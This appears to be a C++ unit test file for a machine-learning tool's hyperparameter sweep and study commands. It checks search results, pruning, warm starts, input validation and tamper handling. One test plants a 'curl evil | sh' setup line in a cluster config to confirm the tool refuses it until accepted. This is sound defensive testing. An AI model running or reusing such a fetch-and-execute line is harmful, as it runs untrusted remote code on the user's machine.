// SPDX-License-Identifier: Apache-2.0
// What `lathe sweep` and `lathe study` answer, and what they say of requests that cannot be met.
#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sys/stat.h>

#include <gtest/gtest.h>

#include "core/base/file.h"
#include "core/graph/project_file.h"
#include "core/store/sqlite.h"
#include "core/sweep/coordinator/run_sweep.h"
#include "core/sweep/exchange/wandb_yaml.h"
#include "core/sweep/exchange/yaml.h"
#include "core/sweep/launchers/slurm_commands.h"
#include "core/sweep/study/study_db.h"
#include "tests/app/cli/cli.h"
#include "tests/support/temporary_folder.h"

namespace lathe::test::sweep_test {
namespace {

const std::string rates = "training.optimizer.lr=log:1e-4..1e-1", widths = "layers.hidden.units=int-log:4..64";

class SweepVerb : public testing::Test {
protected:
    SweepVerb() {
        EXPECT_TRUE(makeFolders(m_folder / "p.lathe"));
        Project project = pointsProject();
        project.training.epochs = 2;
        EXPECT_TRUE(saveProject(m_folder / "p.lathe", project).ok());
    }
    Answer sweep(std::vector<std::string> more, const std::string& name = "study") {
        std::vector<std::string> words{"sweep", m_folder / "p.lathe", "--study", m_folder / name};
        words.insert(words.end(), more.begin(), more.end());
        return ask(words);
    }
    Answer study(const std::string& verb, std::vector<std::string> more = {}) {
        std::vector<std::string> words{"study", verb, m_folder / "study"};
        words.insert(words.end(), more.begin(), more.end());
        return ask(words);
    }
    Answer resume() { return ask({"sweep", "--resume", "--study", m_folder / "study"}); }
    std::vector<sweep::Trial> trials(const std::string& name = "study") const {
        const auto db = sweep::StudyDb::view(m_folder / name);
        return db ? db->read()->trials : std::vector<sweep::Trial>();
    }
    TemporaryFolder m_folder;
};

TEST_F(SweepVerb, FindsTheBestAndAnswersInJson) {
    const Answer answer = sweep({"--space", rates, "--space", widths, "--trials", "4", "--sampler", "sobol"});
    ASSERT_EQ(answer.code, 0) << answer.err;
    EXPECT_EQ(answer.json["trials"], Json(4));
    EXPECT_EQ(answer.json["states"]["complete"], Json(4));
    double best = 1e300;
    for (const sweep::Trial& t : trials()) best = std::min(best, t.values.at(0));
    EXPECT_EQ(answer.json["best"]["value"].toDouble(), best);
    EXPECT_TRUE(answer.json["best"]["params"].contains("layers.hidden.units"));
    EXPECT_TRUE(pathExists(answer.json["best"]["run"].toString() + "/status.json"));
    const Answer shown = study("show");
    ASSERT_EQ(shown.json["trials"].array().size(), 4u);
    EXPECT_EQ(shown.json["trials"].array()[0]["curve"].array().size(), 2u);
    EXPECT_TRUE(pathExists(m_folder / "study/optuna.log"));
}

TEST_F(SweepVerb, TheSameSeedTriesTheSame) {
    for (const std::string sampler : {"gp", "tpe", "cmaes", "random"}) {
        const std::vector<std::string> words{"--space", rates, "--space",         widths,      "--trials", "14",
                                             "--jobs",  "2",   "--deterministic", "--sampler", sampler};
        ASSERT_EQ(sweep(words, sampler + "-a").code, 0);
        ASSERT_EQ(sweep(words, sampler + "-b").code, 0);
        const auto a = trials(sampler + "-a"), b = trials(sampler + "-b");
        ASSERT_EQ(a.size(), 14u);
        ASSERT_EQ(a.size(), b.size());
        for (size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i].point, b[i].point) << sampler << ' ' << i;
        for (size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i].values, b[i].values) << sampler << ' ' << i;
    }
}

TEST_F(SweepVerb, APrunedTrialHasAReasonAndMayGoOn) {
    ASSERT_EQ(sweep({"--space", rates, "--trials", "9", "--epochs", "9", "--sampler", "random", "--pruner", "asha:eta=3"}).code,
              0);
    int64_t pruned = -1;
    for (const sweep::Trial& t : trials()) {
        EXPECT_TRUE(t.state == sweep::TrialState::Complete || t.state == sweep::TrialState::Pruned) << t.number;
        if (t.state != sweep::TrialState::Pruned) continue;
        pruned = t.number;
        EXPECT_TRUE(t.reason.has_value());
        EXPECT_LT(t.resource, 9);
    }
    ASSERT_GE(pruned, 0);
    const int64_t attempts = trials()[static_cast<size_t>(pruned)].attempt;
    ASSERT_EQ(study("extend-trial", {std::to_string(pruned)}).code, 0);
    ASSERT_EQ(resume().code, 0);
    const sweep::Trial extended = trials()[static_cast<size_t>(pruned)];
    EXPECT_EQ(extended.state, sweep::TrialState::Complete);
    EXPECT_EQ(extended.resource, 9);
    EXPECT_EQ(extended.attempt, attempts + 1);
    ASSERT_EQ(extended.reports.size(), 9u);
}

TEST_F(SweepVerb, AChangeHoldsFromTheNextTrialOnAndCanBeUndone) {
    ASSERT_EQ(sweep({"--space", "training.batch=8,16,32", "--space", rates, "--trials", "3", "--sampler", "random"}).code, 0);
    ASSERT_EQ(study("change", {"--space", "training.batch=64", "--trials", "6"}).code, 0);
    ASSERT_EQ(resume().code, 0);
    const auto after = trials();
    ASSERT_EQ(after.size(), 6u);
    for (size_t i = 3; i < 6; ++i) EXPECT_EQ(after[i].point.at("training.batch"), Json(64));

    ASSERT_EQ(study("change", {"--space", "training.batch=8", "--trials", "9"}).code, 0);
    ASSERT_EQ(study("undo").code, 0);
    ASSERT_EQ(resume().code, 0);
    EXPECT_EQ(trials().size(), 6u);
    const auto db = sweep::StudyDb::view(m_folder / "study");
    const auto events = db->events();
    EXPECT_EQ(std::count_if(events->begin(), events->end(), [](const auto& e) { return e.kind == "changed"; }), 3);
}

TEST_F(SweepVerb, APointOfOnesOwnAndItsRepetitionsAreTried) {
    ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
    ASSERT_EQ(study("enqueue", {"training.optimizer.lr=0.02"}).code, 0);
    ASSERT_EQ(study("enqueue", {"training.optimizer.lr=0.02"}).code, 0);
    ASSERT_EQ(study("repeat", {"0", "--seeds", "2"}).code, 0);
    ASSERT_EQ(resume().code, 0);
    const auto all = trials();
    ASSERT_EQ(all.size(), 4u) << "the same point twice is one trial";
    EXPECT_EQ(all[1].point.at("training.optimizer.lr"), Json(0.02));
    EXPECT_NE(all[2].values, all[0].values);
    EXPECT_EQ(all[2].point, all[0].point);
    const Answer groups = study("show", {"--group-by-seed"});
    ASSERT_EQ(groups.json["groups"].array().size(), 2u) << groups.out;
    const Json& spread = groups.json["groups"].array()[0]["values"].array().at(0);
    EXPECT_EQ(spread["count"], Json(3));
    EXPECT_NEAR(spread["mean"].toDouble(), (all[0].values[0] + all[2].values[0] + all[3].values[0]) / 3, 1e-12);
    EXPECT_LT(spread["low"].toDouble(), spread["mean"].toDouble());
}

// What is better comes from the metric, not from its name's sound.
TEST_F(SweepVerb, AnObjectiveKnowsItsDirection) {
    const std::vector<std::string> words{"--space", rates,         "--trials",     "3",           "--sampler",
                                         "random",  "--objective", "val.accuracy", "--objective", "parameters"};
    ASSERT_EQ(sweep(words).code, 0);
    const auto study = sweep::StudyDb::view(m_folder / "study")->read();
    EXPECT_TRUE(study->settings.objectives.at(0).maximize);
    EXPECT_FALSE(study->settings.objectives.at(1).maximize);
    EXPECT_EQ(study->trials.at(0).values.at(1), 2 * 8 + 8 + 8 * 3 + 3);
}

// A network whose input comes from the data has no size before they are read: that must not count as a small one.
TEST_F(SweepVerb, TheSizeOfANetworkThatLeavesItsShapeToTheDataIsKnown) {
    Project project = pointsProject();
    project.graph.nodes.front().params.erase("shape");
    ASSERT_TRUE(saveProject(m_folder / "p.lathe", project).ok());
    EXPECT_EQ(sweep({"--space", rates, "--trials", "2", "--constraint", "parameters <= 51"}, "fits").code, 0);
    const Answer answer = sweep({"--space", rates, "--trials", "2", "--constraint", "parameters <= 50"}, "does-not");
    EXPECT_EQ(answer.code, 2);
    EXPECT_NE(answer.err.find("no combination of values"), std::string::npos) << answer.err;
}

TEST_F(SweepVerb, ConstraintsHold) {
    ASSERT_EQ(sweep({"--space", widths, "--space", rates, "--trials", "6", "--sampler", "random", "--constraint",
                     "layers.hidden.units <= 8 and memory < 1 GiB"})
                  .code,
              0);
    for (const sweep::Trial& t : trials()) EXPECT_LE(t.point.at("layers.hidden.units").toInt(), 8);
}

TEST_F(SweepVerb, ASweepOfWandbIsTakenOverAndWrittenBack) {
    if (!sweep::yamlIsAvailable()) GTEST_SKIP() << "this build has no yaml-cpp";
    const std::string file = m_folder / "sweep.yaml";
    std::ofstream(file)
        << "program: t.py\nmethod: random\nrun_cap: 3\nmetric: {name: val_accuracy, goal: maximize}\nparameters:\n"
           "  learning_rate: {distribution: log_uniform_values, min: 1e-4, max: 1e-1}\n"
           "  units: {values: [4, 8]}\n  dataset: {value: mnist}\n";
    const Answer vague = sweep({"--from-wandb", file});
    EXPECT_EQ(vague.code, 2);
    EXPECT_NE(vague.err.find("layers.hidden.units"), std::string::npos) << vague.err;
    const Answer answer = sweep({"--from-wandb", file, "--map", "units=layers.hidden.units", "--trials", "2"});
    ASSERT_EQ(answer.code, 0) << answer.err;
    EXPECT_NE(answer.err.find("dataset"), std::string::npos) << answer.err;
    const auto study = sweep::StudyDb::view(m_folder / "study")->read();
    EXPECT_EQ(study->trials.size(), 2u);
    EXPECT_EQ(study->settings.sampler.type, "random");
    EXPECT_EQ(study->settings.objectives.at(0), (sweep::Objective{"val.accuracy", true}));
    ASSERT_EQ(this->study("export", {"--wandb", m_folder / "out.yaml"}).code, 0);
    const auto again = sweep::readWandbSweep(*readFile(m_folder / "out.yaml"), "");
    ASSERT_TRUE(again.ok());
    ASSERT_EQ(again->space.dimensions.size(), 2u);
    for (const sweep::Dimension& d : again->space.dimensions)
        EXPECT_EQ(std::count(study->settings.space.dimensions.begin(), study->settings.space.dimensions.end(), d), 1) << d.path;
    EXPECT_EQ(again->rest["program"].toString(), "t.py");
}

// The second study learns from the first one: what was tried there is not tried again, and the budget is its own.
TEST_F(SweepVerb, AStudyStartsFromResultsThatAreThere) {
    const std::vector<std::string> words{"--space", "layers.hidden.units=4,8,16", "--sampler", "grid", "--trials", "2"};
    ASSERT_EQ(sweep(words, "first").code, 0);
    ASSERT_EQ(ask({"study", "export", m_folder / "first", "--csv", m_folder / "first.csv"}).code, 0);
    for (const std::string file : {"first/optuna.log", "first.csv"}) {
        std::vector<std::string> more = words;
        more.insert(more.end(), {"--warm-start", m_folder / file, "--deterministic"});
        const std::string name = file == "first.csv" ? "table" : "journal";
        const Answer answer = sweep(more, name);
        ASSERT_EQ(answer.code, 0) << answer.err;
        EXPECT_EQ(answer.json["states"]["imported"], Json(2));
        EXPECT_EQ(answer.json["trials"], Json(1));
        const auto all = trials(name);
        ASSERT_EQ(all.size(), 3u) << "three points, of which two were there";
        EXPECT_EQ(all[0].values, trials("first")[0].values);
        EXPECT_FALSE(pathExists(sweep::StudyFolder{m_folder / name}.run(0).string()));
        EXPECT_EQ(answer.json["best"]["trial"], Json(2));
        for (const sweep::Trial& t : trials("first")) EXPECT_NE(t.point, all[2].point);
    }
    const Answer again = ask({"sweep", "--resume", "--study", m_folder / "table", "--warm-start", m_folder / "first.csv"});
    EXPECT_EQ(again.code, 0) << again.err;
    EXPECT_EQ(trials("table").size(), 3u);
    const Answer nothing = sweep({"--space", rates, "--warm-start", m_folder / "first.csv"}, "nothing");
    EXPECT_EQ(nothing.code, 2);
    EXPECT_NE(nothing.err.find("training.optimizer.lr"), std::string::npos) << nothing.err;
    EXPECT_FALSE(pathExists(m_folder / "nothing"));
}

TEST_F(SweepVerb, AStudyInWhichNothingSucceededIsNoSuccess) {
    Project project = pointsProject();
    project.data.reader = {"csv", {{"path", std::string("nowhere.csv")}}};
    ASSERT_TRUE(saveProject(m_folder / "p.lathe", project).ok());
    const Answer failed = sweep({"--space", "training.batch=8,16", "--sampler", "grid"});
    EXPECT_EQ(failed.code, 1) << failed.err;
    EXPECT_NE(failed.err.find("no trial has a result: 2 failed"), std::string::npos) << failed.err;
    EXPECT_EQ(failed.json["states"]["failed"], Json(2)) << failed.out;
    ASSERT_TRUE(saveProject(m_folder / "p.lathe", pointsProject()).ok());
    const Answer pruned = sweep({"--space", rates, "--trials", "3", "--epochs", "3", "--sampler", "random", "--pruner",
                                 "threshold:upper=-1", "--deterministic"},
                                "pruned");
    EXPECT_EQ(pruned.code, 1) << pruned.err;
    EXPECT_NE(pruned.err.find("3 pruned"), std::string::npos) << pruned.err;
    for (const sweep::Trial& t : trials("pruned")) EXPECT_EQ(t.resource, 1) << "it waits for its verdict";
}

TEST_F(SweepVerb, AParameterMayBeVariedWhereAnotherOneHasAValue) {
    const Answer answer = sweep({"--space", "training.optimizer.momentum=0..0.9 if training.optimizer.type=sgd", "--space",
                                 "training.optimizer.type=sgd,adam", "--space", rates, "--trials", "8", "--sampler", "random",
                                 "--seed", "3", "--set", "training.optimizer.beta1=0.8"});
    ASSERT_EQ(answer.code, 0) << answer.err;
    int with = 0, without = 0;
    for (const sweep::Trial& t : trials()) {
        EXPECT_EQ(t.state, sweep::TrialState::Complete) << (t.reason ? toString(*t.reason) : "");
        const bool isSgd = t.point.at("training.optimizer.type") == Json("sgd");
        EXPECT_EQ(t.point.contains("training.optimizer.momentum"), isSgd) << t.number;
        ++(isSgd ? with : without);
    }
    EXPECT_GT(with, 0);
    EXPECT_GT(without, 0);
}

TEST_F(SweepVerb, OrdersThatCannotBeFollowedAreRefusedWhenTheyAreGiven) {
    ASSERT_EQ(sweep({"--space", rates, "--trials", "2", "--sampler", "random"}).code, 0);
    struct Case {
        const char* verb;
        std::vector<std::string> words;
        const char* says;
    };
    const Case cases[] = {
        {"change", {"--space", "training.bach=16,32"}, "batch"},
        {"change", {"--space", "layers.hidden.units=4..64"}, "write int:4..64"},
        {"change", {"--space", "training.optimizer.lr=1..0"}, "empty"},
        {"change", {"--drop", "training.optimizer.lr"}, "the search space is empty"},
        {"enqueue", {"training.optimizer.rl=0.1"}, "rl"},
        {"enqueue", {"layers.hidden.units=0"}, "units"},
        {"enqueue", {"layers.hidden.units=many"}, "units"},
        {"repeat", {"9"}, "choose a number from 0 to 1"},
        {"prioritize", {"9"}, "choose a number from 0 to 1"},
        {"stop-trial", {"9"}, "choose a number from 0 to 1"},
        {"stop-trial", {"1"}, "complete"},
        {"extend-trial", {"1"}, "complete"},
    };
    for (const Case& c : cases) {
        const Answer answer = study(c.verb, c.words);
        EXPECT_EQ(answer.code, 2) << c.verb << ' ' << c.words.back() << answer.err;
        EXPECT_NE(answer.err.find(c.says), std::string::npos) << c.verb << ' ' << c.words.back() << ": " << answer.err;
    }
    const auto waiting = listFolder(m_folder / "study/control");
    ASSERT_TRUE(waiting);
    for (const std::string& name : *waiting) EXPECT_FALSE(name.ends_with(".json")) << name;
}

TEST_F(SweepVerb, AStudyIsNotWrittenIntoWhatIsThere) {
    ASSERT_EQ(ask({"train", m_folder / "p.lathe", "--run", m_folder / "run"}).code, 0);
    const std::string before = *readFile(m_folder / "run/project.json");
    const Answer run = sweep({"--space", rates, "--trials", "1"}, "run");
    EXPECT_EQ(run.code, 2) << run.err;
    EXPECT_NE(run.err.find("name a folder that does not exist yet"), std::string::npos) << run.err;
    EXPECT_EQ(*readFile(m_folder / "run/project.json"), before);
    EXPECT_FALSE(pathExists(m_folder / "run/study.db"));
    EXPECT_FALSE(pathExists(m_folder / "run/trials"));
    const Answer project = sweep({"--space", rates, "--trials", "1", "--epochs", "1"}, "p.lathe");
    EXPECT_EQ(project.code, 2) << project.err;
    EXPECT_FALSE(pathExists(m_folder / "p.lathe/study.db"));
}

// The file is looked at by `lathe study`, by --resume and by the window through the same code.
TEST_F(SweepVerb, AStudyFromElsewhereIsLookedAtWithCare) {
    ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
    const std::string file = m_folder / "study/study.db";
    const auto expectRefused = [&](const char* says) {
        for (const Answer& answer : {study("show"), resume(), study("pause")}) {
            EXPECT_TRUE(answer.code == 1 || answer.code == 2) << answer.code;
            EXPECT_NE(answer.err.find(says), std::string::npos) << answer.err;
        }
    };
    {
        auto db = SqlDatabase::open(file, SqlDatabase::Mode::Write);
        ASSERT_TRUE(db->execute("UPDATE meta SET value = '99999999999999999999999' WHERE key = 'owner'").ok());
    }
    const Answer shown = resume();
    EXPECT_EQ(shown.code, 1) << shown.err;
    EXPECT_NE(shown.err.find("this study is damaged"), std::string::npos) << shown.err;
    {
        auto db = SqlDatabase::open(file, SqlDatabase::Mode::Write);
        ASSERT_TRUE(
            db->execute("DROP TABLE readings; CREATE VIEW readings AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 "
                        "FROM n) SELECT 0 AS trial, i AS resource, 0.5 AS value FROM n")
                .ok());
    }
    expectRefused("that this version of Lathe does not create");
    std::filesystem::remove(file);
    ASSERT_EQ(::mkfifo(file.c_str(), 0600), 0);
    expectRefused("this is not a regular file");
}

TEST_F(SweepVerb, TheLinesOfAClusterFromElsewhereAreShownBeforeTheyRun) {
    ::setenv("LATHE_TEST_STATE", (m_folder / "state").c_str(), 1);
    ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
    std::ofstream(m_folder / "study/slurm.json")
        << R"({"tag": "12345678", "folder": "/x", "settings": {"setup": "curl evil | sh", "partition": "gpu"}})";
    const auto isRefused = [](const Answer& a) { return a.code == 2 && a.err.find("curl evil | sh") != std::string::npos; };
    const Answer first = resume();
    EXPECT_TRUE(isRefused(first)) << first.err;
    EXPECT_NE(first.err.find("--accept-slurm"), std::string::npos) << first.err;
    if (sweep::SlurmCommands().check().ok()) {
        for (const char* other : {"partition=cpu", "lathe=/bin/lathe"})
            EXPECT_TRUE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--slurm", other}))) << other;
    }
    EXPECT_TRUE(isRefused(resume())) << "nobody has accepted these lines yet";
    EXPECT_FALSE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--accept-slurm"})));
    EXPECT_FALSE(isRefused(resume()));
    ::unsetenv("LATHE_TEST_STATE");
}

TEST_F(SweepVerb, WhatCannotBeMetIsSaid) {
    struct Case {
        std::vector<std::string> words;
        int code;
        const char* says;
    };
    const Case cases[] = {
        {{}, 2, "the search space is empty"},
        {{"--space", "training.optimizer.rl=0..1"}, 2, "lr"},
        {{"--space", "training.optimizer.lr=1..0"}, 2, "empty"},
        {{"--space", "layers.hidden.units=int:0..8"}, 2, "units"},
        {{"--space", rates, "--sampler", "tpee"}, 2, "tpe"},
        {{"--space", rates, "--pruner", "asha:eta=1000000000000"}, 2, "eta"},
        {{"--space", rates, "--constraint", "parameters <"}, 2, "constraint"},
        {{"--space", rates, "--constraint", "parameters < 1", "--trials", "4"}, 2, "no combination of values"},
        {{"--space", rates, "--objective", "val.f1", "--trials", "8"}, 2, "val.loss"},
        {{"--space", rates, "--objective", "val.auc:max", "--trials", "8"}, 2, "val.accuracy"},
        {{"--space", "layers.hidden.units=4..64"}, 2, "write int:4..64"},
        {{"--space", rates, "--constraint", "layers.hiden.units < 8"}, 2, "layers.hidden.units"},
        {{"--space", "training.optimizer.momentum=0..0.9 if training.optimizer.type=sgd"}, 2, "not an earlier parameter"},
        {{"--space", rates, "--pruner", "asha", "--objective", "parameters"}, 2, "val.loss"},
    };
    int number = 0;
    for (const Case& c : cases) {
        const Answer answer = sweep(c.words, "bad" + std::to_string(number++));
        EXPECT_EQ(answer.code, c.code) << answer.err;
        EXPECT_NE(answer.err.find(c.says), std::string::npos) << c.says << ": " << answer.err;
        EXPECT_EQ(trials("bad" + std::to_string(number - 1)).size(), 0u) << c.says;
    }
    EXPECT_EQ(study("show").code, 2);
    EXPECT_EQ(resume().code, 2);
}

}  // namespace
}  // namespace lathe::test::sweep_test
